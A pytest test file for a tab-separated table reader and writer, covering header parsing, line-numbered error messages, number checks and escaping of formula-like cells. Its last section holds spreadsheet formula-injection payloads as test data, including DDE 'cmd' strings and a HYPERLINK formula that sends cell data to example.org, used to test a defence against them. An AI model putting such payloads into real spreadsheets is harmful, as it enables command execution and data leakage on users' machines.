"""Tables with a header: columns by name, and errors that say where."""

from __future__ import annotations

import csv
import gzip
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from anaphora.core.columns import plain_cell, read_columns, safe_cell, tsv_line
from anaphora.core.errors import BadInput
from anaphora.languages.pair_list import read_pair_list
from anaphora.table import Row, Table

WORDS = st.text(st.characters(exclude_categories=["C", "Z"]), min_size=1, max_size=8)
TABLES = st.integers(2, 5).flatmap(
    lambda columns: st.tuples(
        st.lists(WORDS, min_size=columns, max_size=columns, unique=True),
        st.lists(st.lists(WORDS, min_size=columns, max_size=columns), min_size=1, max_size=5),
    )
)


def written(folder: Path, text: str) -> Path:
    path = folder / "table.tsv"
    path.write_text(text, encoding="utf-8")
    return path


def test_cells_are_found_by_the_names_of_their_columns(tmp_path: Path) -> None:
    table = read_columns(written(tmp_path, "system\thuman\n\na b\t 0.5 \nc\t\n"))
    assert table.names == ("system", "human")
    assert [(record.line, record.cells) for record in table.records] == [
        (3, {"system": "a b", "human": "0.5"}),
        (4, {"system": "c", "human": ""}),
    ]
    assert table.records[0].number("human") == 0.5


def test_gzip_line_ends_of_windows_and_a_byte_order_mark(tmp_path: Path) -> None:
    path = tmp_path / "table.tsv.gz"
    path.write_bytes(gzip.compress("\ufeffsystem\thuman\r\na\t1\r\n".encode()))
    assert read_columns(path).records[0].cells == {"system": "a", "human": "1"}


@settings(derandomize=True)
@given(table=TABLES)
def test_what_was_written_is_read(
    tmp_path_factory: pytest.TempPathFactory, table: tuple[list[str], list[list[str]]]
) -> None:
    names, rows = table
    path = tmp_path_factory.mktemp("t") / "table.tsv"
    path.write_text("".join("\t".join(row) + "\n" for row in [names, *rows]), encoding="utf-8")
    actual = read_columns(path)
    assert actual.names == tuple(names)
    assert [[record.cells[name] for name in names] for record in actual.records] == rows


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        ("", None, "no rows"),
        ("system\thuman\n", None, "no rows"),
        ("system,human\na,1\n", 1, "separated by tabs"),
        ("system\thuman\na\t1\nb\t1\t2\n", 3, "3 columns where the header has 2"),
        ("system\thuman\nb\n", 2, "1 columns"),
        ("system\thuman\thuman\na\t1\t2\n", 1, "two columns are called 'human'"),
    ],
)
def test_what_is_not_a_table_is_refused(tmp_path: Path, text: str, line: int | None, message: str) -> None:
    with pytest.raises(BadInput, match=message) as error:
        read_columns(written(tmp_path, text))
    assert error.value.line == line


@pytest.mark.parametrize("cell", ["", "x", "nan", "inf", "1,5", "0.5 0.6"])
def test_what_is_not_a_number_is_refused(tmp_path: Path, cell: str) -> None:
    table = read_columns(written(tmp_path, f"system\thuman\na\t1\nb\t{cell}\n"))
    with pytest.raises(BadInput, match="in the column 'human'") as error:
        table.records[1].number("human")
    assert error.value.line == 3


def test_a_missing_column_names_a_near_one(tmp_path: Path) -> None:
    table = read_columns(written(tmp_path, "system\thumans\na\t1\n"))
    table.require(["humans"])
    with pytest.raises(BadInput, match=r"no column 'human' \(did you mean humans\?\).*system, humans.*Use the other"):
        table.require(["human"], "Use the other.")


# No cell of a table is a formula, figures stay figures, and our own readers get back what was written


FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://example.org/?"&A1)',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "-bash",
    "@name",
    "-SUM(A1)",
)
FIGURES = ("-0.5", "+0.5", "-1e-05", "−0.5", "+1.2 [-0.1, 2.5]", "-0.012**", "-", "–", "12", "-3 %", "")


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_marked(text: str) -> None:
    assert safe_cell(text) == f"'{text}"
    assert tsv_line([text])[0] == "'"
    table = Table("t", ("", text), (Row((text,), section=True), Row((text, text), indent=1)))
    for cell in table.render("tsv").replace("\n", "\t").split("\t"):
        assert cell[:1] not in tuple("=+-@＝\r")
    for row in csv.reader(io.StringIO(table.render("csv"))):
        assert not any(cell[:1] in tuple("=+-@＝\t\r ") for cell in row if cell)


@pytest.mark.parametrize("text", [*FIGURES, "it", "il's", "'tis", "a=b", "c'"])
def test_figures_and_words_stay_as_they_are(text: str) -> None:
    assert safe_cell(text) == plain_cell(text) == text


@given(st.text(alphabet="'’=+-@ \t＝a1", max_size=8) | st.text())
def test_what_is_written_is_read_back(text: str) -> None:
    assert plain_cell(safe_cell(text)) == text


def test_our_readers_take_the_mark_away(tmp_path: Path) -> None:
    path = tmp_path / "scores.tsv"
    names = ["=A1", "+b", "'-c", "-0.5", "plain"]
    path.write_text("".join(tsv_line(row) + "\n" for row in [("system", "=human"), *((name, "-1") for name in names)]))
    table = read_columns(path)
    assert table.names == ("system", "=human")
    assert [record.cells["system"] for record in table.records] == names
    assert [record.number("=human") for record in table.records] == [-1.0] * 5


def test_a_pair_list_with_odd_words(tmp_path: Path) -> None:
    path = tmp_path / "pairs.tsv"
    header = ("reference", "system", "agreement", "REF", "SYS", "Tie")
    rows = [header, ("=he", "@it", "-0.25", "3", "1", "0")]
    path.write_text("".join(tsv_line(row) + "\n" for row in rows))
    assert path.read_text().splitlines()[1].startswith("'=he\t'@it\t-0.25\t")
    ((pair, judged),) = read_pair_list(path).items()
    assert (pair, judged.agreement) == ("=he:@it", -0.25)
